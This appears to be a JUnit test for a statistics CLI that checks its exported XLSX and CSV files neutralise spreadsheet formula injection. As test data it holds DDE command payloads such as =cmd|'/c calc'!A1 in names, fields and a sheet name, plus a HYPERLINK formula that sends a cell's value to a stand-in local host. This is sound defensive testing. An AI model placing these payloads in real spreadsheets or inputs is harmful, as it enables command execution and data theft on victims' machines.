package org.tanzhang.cli;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.io.TempDir;

/** A city of which a sender wrote formulas for names: of units, parks, carriers, sheets and files. */
@DisplayName("Words that begin like a formula")
@TestInstance(Lifecycle.PER_CLASS)
class FormulaWordsTests {

    private static final String UNIT = "=cmd|'/c calc'!A1";
    private static final String PARK = "@SUM(1+1)";
    private static final String CARRIER = "+1+cmd|'/c calc'!A1";
    private static final String FIGURE = "-2+3+cmd|'/c calc'!A1";
    private static final String LINK = "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"查看\")";
    private static final String PRINTING = "91430102MAHC00017Y";

    private Path folder;
    private Bureau bureau;

    @BeforeAll
    void aNightsWork(@TempDir Path temporary) throws Exception {
        folder = temporary;
        Path inbox = Files.createDirectories(folder.resolve("inbox"));
        SampleWorkbook.of(2024, "名录_430100")
                .words("虚构芙蓉甲子印刷有限公司", UNIT)
                .words("隆平高科技园", PARK)
                .save(inbox.resolve("=名录"));
        SampleWorkbook.of(2024, "市_430100_长沙市").save(inbox.resolve("+市"));
        SampleWorkbook.of(2024, "区县_430102_芙蓉区").save(inbox.resolve("-芙蓉区"));
        SampleWorkbook.of(2024, "企业_430102_001_印刷").words("虚构芙蓉甲子印刷有限公司", UNIT).save(inbox.resolve("=1+cmd"));
        SampleWorkbook.of(2024, "企业_430102_002_食品").save(inbox.resolve("@食品"));
        Path faulty = inbox.resolve("=坏.xlsx");
        Files.copy(sample("企业_430102_004_制药.xlsx"), faulty);
        spoil(faulty);
        Files.writeString(inbox.resolve("=消费合计.csv"), """
                组织机构代码/统一社会信用代码,单位详细名称,年份,原煤（吨）,%s（吨）,柴油（吨）,汽油（吨）,焦炭（吨）
                %s,%s,2024,"%s",5,1,1,1
                """.formatted(CARRIER, PRINTING, UNIT, FIGURE));
        bureau = Bureau.on(DatabaseServers.EMBEDDED, folder.resolve("home"));
        Path out = Files.createDirectories(folder.resolve("out"));
        assertThat(run(
                        "import",
                        inbox.toString(),
                        "--returned",
                        out.resolve("returned").toString(),
                        "--json"))
                .isEqualTo(ExitCode.RETURNED);
        assertThat(run("account", "--year", "2024")).isZero();
        for (String[] command : new String[][] {
            {"export", "--year", "2024", "--with-sources", "--out", "台账.csv"},
            {"export", "--year", "2024", "--parks", "--out", "园区.csv"},
            {"inventory", "--year", "2024", "--out", "清单"},
            {"status", "--delivery", "--year", "2024", "--out", "应报.csv"},
            {"template", "--form", "205-1", "--unit", PRINTING, "--year", "2025", "--out", "表.xlsx"},
            {"template", "--form", "products-by-unit", "--unit", PRINTING, "--year", "2024", "--out", "产量.xls"},
            {"template", "--form", "unit-register", "--year", "2025", "--out", "名录.xlsx"}
        }) {
            command[command.length - 1] =
                    out.resolve(command[command.length - 1]).toString();
            assertThat(run(command)).as(String.join(" ", command)).isZero();
        }
    }

    private int run(String... command) {
        return bureau.run(command).exitCode();
    }

    @AfterAll
    void close() {
        bureau.close();
    }

    private static Path sample(String name) {
        return Bureau.SAMPLES.resolve("inbox/2024").resolve(name);
    }

    /** A card whose name, one of whose carriers, one of whose figures and whose second sheet are formulas written as text. */
    private static void spoil(Path card) throws IOException {
        byte[] bytes = Files.readAllBytes(card);
        try (Workbook book = WorkbookFactory.create(new java.io.ByteArrayInputStream(bytes));
                OutputStream out = Files.newOutputStream(card)) {
            Sheet sheet = book.getSheet("205-1");
            book.createSheet("=cmd|A1").createRow(0).createCell(0).setCellValue(LINK);
            int spoilt = 0;
            for (Row row : sheet) {
                Cell caption = row.getCell(0);
                String name = caption == null || caption.getCellType() != CellType.STRING
                        ? ""
                        : caption.getStringCellValue().strip();
                if (name.equals("柴油")) {
                    row.createCell(4).setCellValue(FIGURE);
                    spoilt++;
                } else if (name.equals("汽油")) {
                    caption.setCellValue(CARRIER);
                    row.createCell(4).setCellValue(3);
                    spoilt++;
                }
            }
            assertThat(spoilt).isEqualTo(2);
            book.write(out);
        }
    }

    private List<Path> written(String... endings) throws IOException {
        try (Stream<Path> all = Files.walk(folder.resolve("out"))) {
            List<Path> files = all.filter(Files::isRegularFile)
                    .filter(f -> Stream.of(endings).anyMatch(f.toString()::endsWith))
                    .toList();
            assertThat(files).hasSizeGreaterThanOrEqualTo(3);
            return files;
        }
    }

    @Test
    @DisplayName("are words in every workbook that is written: no formula holds any of them")
    void workbooks() throws IOException {
        List<String> texts = new ArrayList<>();
        for (Path file : written(".xlsx", ".xls")) {
            try (Workbook book = WorkbookFactory.create(file.toFile(), null, true)) {
                for (Sheet sheet : book) {
                    for (Row row : sheet) {
                        for (Cell cell : row) {
                            String at = file.getFileName() + "!" + sheet.getSheetName() + "!" + cell.getAddress();
                            if (cell.getCellType() == CellType.FORMULA) {
                                assertThat(cell.getCellFormula())
                                        .as(at)
                                        .doesNotContain("cmd", "HYPERLINK", PARK.substring(1), "http");
                            } else if (cell.getCellType() == CellType.STRING) {
                                texts.add(cell.getStringCellValue());
                            }
                        }
                    }
                }
                assertThat(book.getAllNames())
                        .allMatch(n -> !n.getRefersToFormula().contains("cmd|"));
            }
        }
        assertThat(texts).as("they are there, as the sender wrote them").contains(UNIT, PARK, CARRIER, FIGURE, LINK);
    }

    @Test
    @DisplayName("begin no field of a CSV: an apostrophe stands before them")
    void csv() throws IOException {
        List<String> harmless = new ArrayList<>();
        for (Path file : written(".csv")) {
            String text = Files.readString(file, StandardCharsets.UTF_8).replace("\uFEFF", "");
            try (CsvReader<CsvRecord> csv = CsvReader.builder().ofCsvRecord(text)) {
                for (CsvRecord line : csv) {
                    for (String field : line.getFields()) {
                        if (field.matches("(?s)[=+@\\-\\t\\r].*")) {
                            assertThat(new BigDecimal(field))
                                    .as("%s: %s", file, field)
                                    .isNegative();
                        }
                        if (field.startsWith("'")) {
                            harmless.add(field);
                        }
                    }
                }
            }
        }
        assertThat(harmless)
                .as("unit, park and files")
                .contains("'" + UNIT, "'" + PARK, "'=1+cmd.xlsx")
                .anyMatch(f -> f.startsWith("'=1+cmd.xlsx!205-1!"));
    }

    @Test
    @DisplayName("are told as they are to the officer and in JSON")
    void told() {
        assertThat(bureau.run("import", folder.resolve("inbox/=消费合计.csv").toString())
                        .out())
                .contains(CARRIER, FIGURE);
        assertThat(bureau.run("status", "--delivery", "--year", "2024", "--json")
                        .json()
                        .findValuesAsString("name"))
                .contains(UNIT);
    }
}
